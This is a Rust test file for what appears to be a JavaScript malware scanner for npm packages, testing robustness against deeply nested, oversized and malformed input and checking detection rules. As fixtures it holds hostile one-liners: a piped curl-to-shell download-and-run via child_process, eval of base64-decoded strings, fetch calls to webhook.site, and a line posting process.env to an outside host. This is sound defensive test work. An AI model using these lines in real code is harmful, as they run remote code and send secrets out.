//! Hostile and odd files: each ends, in bounded time and stack, with a problem where
//! something was not analysed.
#![expect(clippy::unwrap_used, reason = "test code")]

use packguard_javascript::JavaScript;
use packguard_sdk::testing::PackageBuilder;
use packguard_sdk::{Analysis, Analyzer as _};
use proptest::prelude::*;

fn analyse(path: &str, content: impl AsRef<[u8]>) -> Analysis {
    let package = PackageBuilder::new("npm", "sample")
        .file(path, content)
        .build();
    // The sandbox's stack.
    std::thread::Builder::new()
        .stack_size(1 << 20)
        .spawn(move || JavaScript::analyze(&package).unwrap())
        .unwrap()
        .join()
        .unwrap()
}

#[test]
fn deep_nesting_is_a_problem_and_not_a_crash() {
    for (open, middle, close) in [
        ("[", "1", "]"),
        ("(", "1", ")"),
        ("{", "1", "}"),
        ("x={a:", "1", "}"),
        ("!", "1", ""),
        ("- ", "1", ""),
        ("a=>", "1", ""),
        ("a?b:", "1", ""),
        ("a=", "1", ""),
        ("2**", "1", ""),
        ("`${", "1", "}`"),
        ("if(a)", "1", ""),
        ("if(a)b;else ", "1", ""),
        ("if(a){}else ", "1", ""),
        ("f(", "1", ")"),
        ("(function(){", "1", "})()"),
        ("async()=>", "1", ""),
        ("for(;;)", "1", ""),
        ("new ", "a", ""),
        ("class extends ", "a", "{}"),
        ("typeof ", "a", ""),
        ("l:", "1", ""),
        ("do ", "1", " while(0)"),
    ] {
        let text = format!(
            "x = {}{middle}{}",
            open.repeat(100_000),
            close.repeat(100_000)
        );
        let analysis = analyse("a.js", &text);
        assert_eq!(analysis.problems().len(), 1, "{open}");
    }
    let analysis = analyse("a.jsx", format!("x = {}", "<a>".repeat(100_000)));
    assert_eq!(analysis.problems().len(), 1);
    let analysis = analyse("a.ts", format!("let x: {}", "A<".repeat(100_000)));
    assert_eq!(analysis.problems().len(), 1);
}

#[test]
fn nesting_just_below_the_limit_is_parsed_on_the_sandbox_s_stack() {
    for (open, middle, close, times) in [
        ("[", "1", "]", 240),
        ("(function(){", "1", "})()", 120),
        ("x={a:", "1", "}", 150),
        ("`${", "1", "}`", 240),
        ("a=>", "1", "", 480),
        ("if(a)b;else ", "1", "", 1_200),
        ("a?b:", "1", "", 800),
        ("!", "1", "", 1_200),
        ("class extends ", "a", "{}", 400),
        ("<a>", "1", "</a>", 900),
    ] {
        let head = if open.starts_with("if") { "" } else { "y = " };
        let text = format!(
            "{head}{}{middle}{}; eval(atob(z))",
            open.repeat(times),
            close.repeat(times)
        );
        let analysis = analyse("a.jsx", &text);
        assert_eq!(analysis.problems(), [], "{open}");
    }
}

#[test]
fn long_chains_that_do_not_nest_are_analysed() {
    for text in [
        format!("x = {}'z'; eval(atob(y))", "'a' + ".repeat(20_000)),
        format!("x{}; eval(atob(y))", ".then(f)".repeat(3_000)),
        format!("x = [{}]; eval(atob(y))", "1,".repeat(200_000)),
        format!("{}eval(atob(y))", "a();".repeat(100_000)),
        format!(
            "switch (a) {{ {} }} eval(atob(y))",
            "case 1: b(); break;".repeat(20_000)
        ),
        format!("x = {}1; eval(atob(y))", "a || ".repeat(3_000)),
    ] {
        let analysis = analyse("a.js", &text);
        assert_eq!(analysis.problems(), [], "{}", &text[..40]);
        assert!(
            analysis
                .findings()
                .iter()
                .any(|finding| finding.rule == "js-decode-eval")
        );
    }
}

#[test]
fn names_that_refer_to_each_other_end() {
    for text in [
        "var a = b, b = a; eval(a)",
        "function f(x) { return f(g(x)) } function g(x) { return f(x) } eval(f('a'))",
        "const f = (x) => x + f(x + 'a'); eval(f('a'))",
        "let s = 'a'; s = s + s; s = s + s; eval(s)",
    ] {
        analyse("a.js", text);
    }
    let doubling: String = (0..17)
        .map(|at| format!("const a{} = a{at} + a{at};", at + 1))
        .collect();
    let analysis = analyse(
        "a.js",
        format!("const a0 = '{}';{doubling} eval(a17)", "a".repeat(64)),
    );
    assert_eq!(analysis.problems().len(), 1);
    let calls: String = (0..40)
        .map(|at| format!("const f{} = (x) => f{at}(x) + f{at}(x);", at + 1))
        .collect();
    analyse(
        "a.js",
        format!("const f0 = (x) => x;{calls} eval(f40('a'))"),
    );
}

#[test]
fn syntax_errors_are_problems_and_still_searched() {
    let analysis = analyse(
        "a.js",
        "}{ this is not javascript; eval(atob('x')) https://webhook.site/x",
    );
    assert_eq!(analysis.problems().len(), 1);
    let rules: Vec<&str> = analysis
        .findings()
        .iter()
        .map(|finding| finding.rule.as_str())
        .collect();
    assert!(rules.contains(&"js-decode-eval"), "{rules:?}");
    assert!(rules.contains(&"js-indicator-host"), "{rules:?}");
}

#[test]
fn every_dialect_is_parsed() {
    for (path, text) in [
        ("a.js", "import x from 'y'; export default x"),
        ("b.js", "with (a) { b } var yield = 1"),
        ("c.js", "const a = <b c={d}>e</b>"),
        ("d.js", "return require('x')"),
        ("e.js", "#!/usr/bin/env node\nconsole.log(1)"),
        ("f.cjs", "module.exports = await_ => 1"),
        ("g.mjs", "await import('x')"),
        (
            "h.ts",
            "const a = <T,>(x: T): x is T => !!x; enum E { A = 1 }",
        ),
        ("i.tsx", "const a = <b<string> c={d!}>e</b>"),
        ("j.cts", "import a = require('a'); export = a"),
        ("k.js", "<!-- old browsers\nvar a = 1\n-->"),
        ("l.js", ""),
        ("m.js", "\u{FEFF}var a"),
        ("n.d.ts", "}{ not looked at"),
    ] {
        assert_eq!(analyse(path, text).problems(), [], "{path}");
    }
}

#[test]
fn programs_without_extension_are_found_by_their_first_line_or_manifest() {
    let code = "require('child_process').exec('curl https://a.example | sh')";
    let analysis = analyse("bin/tool", format!("#!/usr/bin/env node\n{code}"));
    assert!(
        analysis
            .findings()
            .iter()
            .any(|finding| finding.rule == "js-shell-download-run")
    );
    let package = PackageBuilder::new("npm", "sample")
        .file("package/package.json", r#"{"bin":{"tool":"./cli"}}"#)
        .file("package/cli", code)
        .file("package/LICENSE", "curl https://a.example | sh")
        .build();
    let analysis = JavaScript::analyze(&package).unwrap();
    assert!(
        analysis
            .findings()
            .iter()
            .any(|finding| finding.rule == "js-shell-download-run")
    );
    assert_eq!(analysis.problems(), []);
}

#[test]
fn a_huge_line_is_searched_as_text() {
    let mut text = "a=1;".repeat(9 << 20);
    text.push_str("fetch('https://webhook.site/x')");
    let analysis = analyse("a.js", text);
    assert_eq!(analysis.problems().len(), 1);
    let rules: Vec<&str> = analysis
        .findings()
        .iter()
        .map(|finding| finding.rule.as_str())
        .collect();
    assert_eq!(rules, ["js-indicator-host"]);
}

#[test]
fn binary_content_under_a_script_s_name_is_a_problem() {
    let bytes: Vec<u8> = (0..=255_u8).cycle().take(5_000).collect();
    assert_eq!(analyse("a.js", bytes).problems().len(), 1);
}

#[test]
fn the_same_package_gives_the_same_answer() {
    let text = "const a = process.env; fetch('https://a.example', { body: JSON.stringify(a) }); eval(atob(b))";
    assert_eq!(analyse("a.js", text), analyse("a.js", text));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_text_ends(text in "\\PC{0,400}") {
        analyse("a.js", text);
    }

    #[test]
    fn any_mix_of_tokens_ends(tokens in proptest::collection::vec(
        proptest::sample::select(vec![
            "eval", "(", ")", "[", "]", "{", "}", "'a'", "`${", "`", "=>", "=", ",", ";", "a", "function ",
            "return ", "atob", ".", "+", "?", ":", "/", "'", "require", "class ", "\n", "await ", "new ", "<",
        ]), 0..80)) {
        analyse("a.js", tokens.concat());
    }
}
